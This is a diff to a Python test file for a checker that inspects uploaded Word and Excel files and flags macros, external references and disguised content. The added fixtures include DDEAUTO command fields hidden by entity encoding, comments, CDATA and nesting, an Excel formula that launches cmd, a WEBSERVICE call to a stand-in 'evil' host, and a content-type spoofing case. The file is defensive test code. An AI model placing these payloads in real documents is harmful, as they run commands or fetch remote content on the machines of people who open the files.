@@ -79,6 +79,11 @@ def field(code: str) -> Callable[[Parts], object]:
     return replaced("word/document.xml", b"</w:body>", text.encode())
 
 
+def formula(text: str) -> Callable[[Parts], object]:
+    cell = f'<row r="9"><c r="A9"><f>{text}</f></c></row></sheetData>'
+    return replaced("xl/worksheets/sheet1.xml", b"</sheetData>", cell.encode())
+
+
 def macro(parts: Parts) -> None:
     """What a .docm says of itself, whatever its name."""
     types = parts["[Content_Types].xml"]
@@ -103,6 +108,8 @@ def test_plain_documents_are_taken_for_what_they_are() -> None:
     book.close()
     assert media_type(out.getvalue()) == XLSX, "a link that somebody has to click"
     assert media_type(changed(WORD, related("hyperlink", "mailto:a@b.cn"))) == DOCX
+    assert media_type(changed(WORD, field('HYPERLINK "https://a.cn/dde/import"'))) == DOCX
+    assert media_type(changed(EXCEL, formula("SUM(A1:A2)&amp;&quot;|&quot;"))) == XLSX
     assert clean_name("报告.docm", DOCX) == "报告.docm.docx"
 
 
@@ -113,6 +120,32 @@ HOSTILE: dict[str, tuple[bytes, str]] = {
     "control": (changed(WORD, related("control", "activeX1.xml", "Internal")), "宏"),
     "ribbon code": (changed(WORD, related("extensibility", "customUI.xml", "Internal")), "宏"),
     "dde": (changed(WORD, field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "宏"),
+    "dde in entities": (changed(WORD, field("D&#68;EAUTO cmd")), "宏"),
+    "dde in pieces": (changed(WORD, field("D<!-- x -->D<![CDATA[E]]>AUTO cmd")), "宏"),
+    "dde behind another field": (
+        changed(WORD, field('PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>DDEAUTO cmd')),
+        "宏",
+    ),
+    "dde in an attribute": (
+        changed(
+            WORD,
+            replaced("word/document.xml", b"</w:body>", b'<w:fldSimple w:instr=" &#x44;DE cmd"/></w:body>'),
+        ),
+        "宏",
+    ),
+    "formula that fetches": (changed(EXCEL, formula("_xlfn.WEBSERVICE(&quot;http://evil/&quot;)")), "宏"),
+    "formula that runs": (changed(EXCEL, formula("cmd|'/c calc'!A0")), "宏"),
+    "text under the name of a picture": (
+        changed(
+            WORD,
+            replaced(
+                "[Content_Types].xml",
+                b"</Types>",
+                b'<Default Extension="png" ContentType="application/vnd.x.header+xml"/></Types>',
+            ),
+        ),
+        "夹带",
+    ),
     "template elsewhere": (changed(WORD, related("attachedTemplate", "http://evil/x.dotm")), "外部"),
     "picture elsewhere": (changed(WORD, related("image", "http://evil/x.png")), "外部"),
     "share": (changed(WORD, related("hyperlink", "file:////evil/share")), "外部"),
